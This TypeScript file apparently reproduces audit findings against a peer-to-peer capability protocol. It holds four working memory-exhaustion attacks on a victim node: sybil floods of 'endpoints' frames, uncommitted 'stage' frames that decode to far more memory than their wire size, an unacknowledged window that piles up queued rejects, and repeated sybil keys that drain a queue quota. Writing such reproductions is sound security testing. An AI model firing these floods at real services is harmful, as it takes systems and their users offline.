/**
 * Memory attacks (issue 17, findings 3, 4 and 9): what the victim keeps for a peer, charged to
 * nothing or charged by wire bytes rather than by what it costs in memory.
 */

import { parseCapabilityUrl } from "@capbus/core";
import { concat, emptyMaps, head, uint } from "./cbor.js";
import { type AttackContext, count, needUrl, pause } from "./context.js";
import { RawSession } from "./raw-session.js";

const NULL = Uint8Array.of(0xf6);

/**
 * Finding 3 (no capability): `endpoints` frames about made-up peer ids, each with 16 URLs of
 * 2 KB, kept by the victim forever. About 33 KB a frame, up to 60 MB/s.
 */
export async function hints(ctx: AttackContext): Promise<void> {
  const session = await RawSession.open(ctx.endpoint);
  const urls = Array.from({ length: 16 }, (_, i) => `ws://h${i}.example/${"x".repeat(2000)}`);
  const perTick = 18; // 18 frames of ~33 KB every 10 ms: ~60 MB/s
  let n = 0;
  while (!ctx.stopped() && !session.closed) {
    for (let i = 0; i < perTick; i++) {
      session.send({ type: "endpoints", peer: `sybil-${process.pid}-${++n}`, urls });
    }
    await session.drain(4 << 20);
    await pause(ctx, 10);
  }
  ctx.figures.frames = n;
  ctx.figures.mbSent = Math.round((n * 33_000) / 1e6);
  ctx.figures.closed = session.closeText;
  session.close();
}

/** A `stage` frame built by hand, with `payload` already CBOR (spec/wire.md §5.3). */
function stageBytes(
  seq: number,
  ack: number,
  event: number,
  clock: number,
  node: number,
  payload: Uint8Array,
) {
  return concat([
    head(4, 9),
    uint(1),
    uint(seq),
    uint(ack),
    uint(event),
    uint(clock),
    head(4, 1),
    uint(node),
    payload,
    head(4, 0), // handles
    head(4, 0), // receivers
  ]);
}

/** A session that holds the victim's `attack` node: it claimed the capability URL. */
async function holder(ctx: AttackContext): Promise<{ session: RawSession; node: number }> {
  const session = await RawSession.open(ctx.endpoint);
  const node = await session.claim(parseCapabilityUrl(needUrl(ctx)).secret);
  return { session, node };
}

/**
 * Finding 4 (holds a capability): `stage` frames whose payload is 256 Ki empty maps (~256 KB on
 * the wire, ~64x that decoded), never committed, so they stay queued and charged by wire bytes.
 */
export async function decodedSize(ctx: AttackContext): Promise<void> {
  const { session, node } = await holder(ctx);
  const payload = emptyMaps(256 * 1024);
  while (!ctx.stopped() && !session.closed) {
    const event = session.nextEvent();
    const answer = session.answerTo(event);
    session.sendBuilt((seq, ack) => stageBytes(seq, ack, event, session.clock, node, payload));
    const frame = await answer;
    if (frame?.type === "propose") {
      count(ctx.figures, "staged");
      count(ctx.figures, "wireBytesQueued", payload.byteLength);
    } else if (frame?.type === "reject") {
      count(ctx.figures, `refused ${frame.code}`);
      await pause(ctx, 500); // nothing frees room until the stage timeout
    }
  }
  ctx.figures.closed = session.closeText;
  session.drop();
}

/**
 * Finding 4, the window (no capability): a session that never acknowledges and never reads,
 * sending small `unicast` frames to a node the victim does not have. Every `reject` the victim
 * answers is kept for resending: ~20 bytes against a 16 MiB byte window, ~200 in memory, and
 * the victim's writes pile up unread. One session, so the memory one session may cost shows;
 * sessions are free to add (the six took a victim from 98 MB to 1.3 GB).
 */
export async function ackWindow(ctx: AttackContext): Promise<void> {
  const session = await RawSession.open(ctx.endpoint, { acks: false });
  session.pauseReading();
  ctx.figures.sessions = 1;
  const perTick = 500; // every 10 ms: 50 000 frames/s at most
  let frames = 0;
  while (!ctx.stopped() && !session.closed) {
    for (let i = 0; i < perTick; i++) {
      const event = session.nextEvent();
      // [unicast, seq, ack 0, event, clock 0, node, null], by hand: the encoder would be the bottleneck.
      session.sendBuilt((seq) =>
        concat([head(4, 7), uint(5), uint(seq), uint(0), uint(event), uint(0), uint(999_999), NULL]),
      );
    }
    frames += perTick;
    await session.drain(256 * 1024);
    await pause(ctx, 10);
  }
  ctx.figures.frames = frames;
  ctx.figures.closed = session.closeText;
  session.drop();
}

/**
 * Finding 9 (each key holds the capability): sybil after sybil, each a fresh key that claims the
 * URL and stages 1 KiB messages (never committed) until the victim refuses it with E_QUOTA,
 * taking half of what is left of the queue. Up to 16 keys.
 */
export async function sybils(ctx: AttackContext): Promise<void> {
  const payload = concat([head(2, 1024), new Uint8Array(1024)]);
  const held: RawSession[] = [];
  for (let k = 0; k < 16 && !ctx.stopped(); k++) {
    const { session, node } = await holder(ctx);
    held.push(session);
    let refused = false;
    let staged = 0;
    while (!refused && !ctx.stopped() && !session.closed) {
      // A window of 64 frames in flight, answers counted as they come.
      const answers = [];
      for (let i = 0; i < 64; i++) {
        const event = session.nextEvent();
        answers.push(session.answerTo(event));
        session.sendBuilt((seq, ack) => stageBytes(seq, ack, event, session.clock, node, payload));
      }
      for (const frame of await Promise.all(answers)) {
        if (frame?.type === "propose") staged++;
        else if (frame?.type === "reject") refused = true;
      }
    }
    count(ctx.figures, "staged", staged);
    ctx.figures.sybils = k + 1;
    ctx.figures[`sybil${k + 1}`] = staged;
  }
  await ctx.stop;
  for (const session of held) session.drop();
}
